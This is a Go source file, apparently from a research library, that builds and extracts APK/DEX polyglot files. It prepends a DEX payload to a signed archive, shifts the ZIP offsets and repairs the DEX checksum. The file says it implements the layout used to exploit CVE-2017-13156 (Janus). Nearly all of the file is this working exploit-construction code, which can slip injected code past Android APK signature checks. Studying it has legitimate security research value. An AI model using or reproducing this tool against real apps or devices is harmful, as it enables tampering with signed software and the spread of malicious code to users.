// Copyright 2026 Google LLC
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package polyglot builds and takes apart files that are both an APK and a
// DEX file.
//
// ZIP readers find an archive's contents through the central directory at
// the end of the file, while DEX readers validate the header at offset 0.
// Inject places a payload in front of an archive and shifts the archive's
// offsets to match; when the payload is a DEX file its header is repaired
// to cover the whole result. Extract reverses this.
//
// This is the layout used to demonstrate CVE-2017-13156 (Janus).
package polyglot

import (
	"archive/zip"
	"bytes"
	"fmt"
	"math"

	"github.com/google/janus/apk"
	"github.com/google/janus/dex"
	"github.com/rs/zerolog"
)

// Options allows tuning Inject and Extract. The zero value, or nil,
// provides reasonable defaults.
type Options struct {
	// RepairChecksum makes Inject rewrite the DEX header of the result so
	// that it covers the whole file. Extract always repairs.
	RepairChecksum bool
	// Mode selects how archive structures are located. Default is
	// apk.ModeCompat, which matches the output of existing tools.
	Mode apk.Mode
	// Logger receives diagnostics. Default is no logging.
	Logger *zerolog.Logger
}

var nopLogger = zerolog.Nop()

func (o *Options) logger() *zerolog.Logger {
	if o == nil || o.Logger == nil {
		return &nopLogger
	}
	return o.Logger
}

func (o *Options) mode() apk.Mode {
	if o == nil {
		return apk.ModeCompat
	}
	return o.Mode
}

func (o *Options) repairChecksum() bool {
	return o != nil && o.RepairChecksum
}

// Inject returns payload followed by archive, with the archive's offsets
// shifted by len(payload) so that the result is still a valid archive.
//
// archive is modified in place and should not be used afterwards; payload
// is left untouched. If opts.RepairChecksum is set the DEX header at the
// start of the result is rewritten to describe the whole result.
func Inject(payload, archive []byte, opts *Options) ([]byte, error) {
	log := opts.logger()
	if uint64(len(payload)) > math.MaxUint32 {
		return nil, fmt.Errorf("payload of %d bytes does not fit a 32-bit offset", len(payload))
	}
	delta := uint32(len(payload))

	s := apk.Shifter{
		Mode: opts.mode(),
		HandlePatch: func(p apk.Patch) {
			log.Debug().
				Str("field", p.Field).
				Int("at", p.At).
				Uint32("old", p.Old).
				Uint32("new", p.New).
				Msg("Patched offset")
		},
	}
	res, err := s.Shift(archive, delta)
	if err != nil {
		return nil, fmt.Errorf("shifting archive offsets: %w", err)
	}
	log.Info().
		Int("end_record", res.EndRecord).
		Uint32("directory_start", res.OldDirectoryStart).
		Int("entries", res.Entries).
		Msgf("Shifted archive offsets by %d bytes", delta)

	out := make([]byte, 0, len(payload)+len(archive))
	out = append(out, payload...)
	out = append(out, archive...)

	if opts.repairChecksum() {
		if !dex.HasMagic(out) {
			log.Warn().Msg("Payload does not start with a DEX magic, repairing its header anyway")
		}
		log.Info().Msg("Fixing DEX checksum...")
		// The DEX header must describe the file as a DEX reader sees it,
		// which includes the archive.
		if err := dex.Repair(out); err != nil {
			return nil, fmt.Errorf("repairing DEX header: %w", err)
		}
	}
	return out, nil
}

// Extract returns the data embedded in front of the archive contained in b,
// with its DEX header repaired to describe only that data. b is not
// modified.
func Extract(b []byte, opts *Options) ([]byte, error) {
	log := opts.logger()
	boundary, err := apk.ArchiveStart(b, opts.mode())
	if err != nil {
		return nil, err
	}
	log.Info().Int("boundary", boundary).Str("mode", opts.mode().String()).Msg("Found embedded archive")

	out := make([]byte, boundary)
	copy(out, b)
	if h, err := dex.ReadHeader(out); err == nil && h.FileSize != uint32(boundary) {
		log.Warn().Uint32("file_size", h.FileSize).Int("boundary", boundary).Msg("DEX file size does not match archive boundary")
	}
	if err := dex.Repair(out); err != nil {
		return nil, fmt.Errorf("repairing DEX header: %w", err)
	}
	return out, nil
}

// IsArchive reports whether b can be opened as a ZIP archive.
func IsArchive(b []byte) bool {
	_, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	return err == nil
}
